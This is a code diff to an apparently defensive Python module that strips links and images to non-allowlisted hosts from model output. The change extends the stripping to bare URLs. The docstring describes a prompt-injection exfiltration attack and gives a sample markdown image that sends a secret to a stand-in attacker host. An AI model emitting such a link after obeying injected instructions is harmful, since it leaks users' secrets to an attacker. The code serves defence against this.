@@ -4,7 +4,8 @@ A model that read an injected instruction can smuggle data out through a URL
 the user's renderer fetches (``![x](https://evil.example/?q=<secret>)``) or a
 link the user clicks. Model output shown to the user or passed to another model
 goes through :func:`neutralize_links`: images and links to hosts that are not
-allowlisted keep their text and lose their URL. Bare URLs are left as text.
+allowlisted keep their text and lose their URL; bare URLs to such hosts (which
+renderers turn into links) are removed too.
 """
 
 from __future__ import annotations
@@ -22,6 +23,7 @@ _REF_DEF = re.compile(r"^( {0,3}\[[^\]]+\]:)\s*<?(\S+?)>?(\s+.*)?$", re.M)
 _AUTOLINK = re.compile(r"<((?:https?|ftp|data|javascript):[^\s>]+)>", re.I)
 _HTML_IMG = re.compile(r"<img\b[^>]*>", re.I)
 _HTML_LINK = re.compile(r"<a\b[^>]*>(.*?)</a>", re.I | re.S)
+_BARE = re.compile(r"\b(?:https?|ftp)://[^\s<>()\"']+", re.I)
 
 
 def _allowed(url: str, allowed: Sequence[str]) -> bool:
@@ -48,7 +50,7 @@ def neutralize_links(text: str, allowed_hosts: Sequence[str] = ()) -> str:
         The text, where ``![alt](url)`` becomes ``[image removed: alt]`` and ``[text](url)``
         becomes ``text [link removed]`` unless the URL's host is allowlisted.
     """
-    if "](" not in text and "<" not in text and "]:" not in text:
+    if "](" not in text and "<" not in text and "]:" not in text and "://" not in text:
         return text
 
     def image(m: re.Match[str]) -> str:
@@ -85,4 +87,7 @@ def neutralize_links(text: str, allowed_hosts: Sequence[str] = ()) -> str:
     text = _REF_DEF.sub(ref, text)
     text = _AUTOLINK.sub(auto, text)
     text = _HTML_IMG.sub(html_img, text)
-    return _HTML_LINK.sub(html_link, text)
+    text = _HTML_LINK.sub(html_link, text)
+    return _BARE.sub(
+        lambda m: m.group(0) if _allowed(m.group(0), allowed_hosts) else "[link removed]", text
+    )
